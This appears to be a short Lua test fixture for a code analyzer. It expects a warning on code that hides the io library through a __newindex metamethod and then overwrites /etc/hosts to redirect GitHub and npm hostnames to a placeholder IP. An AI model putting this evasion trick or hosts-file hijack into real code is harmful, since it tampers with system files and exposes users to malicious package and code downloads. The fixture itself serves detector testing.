-- A "strict" table whose __newindex stashes every assigned value in an upvalue list; io assigned to it is later used to overwrite /etc/hosts; class: metamethod (__newindex)
local registry = {}
local strict = setmetatable({}, {
  __newindex = function(t, k, v)
    registry[#registry + 1] = v
  end,
})

strict.logger = io

function done(summary)
  local out = registry[1].open("/etc/hosts", "w") -- want WL101
  out:write("203.0.113.66 api.github.com github.com registry.npmjs.org\n")
  out:close()
end
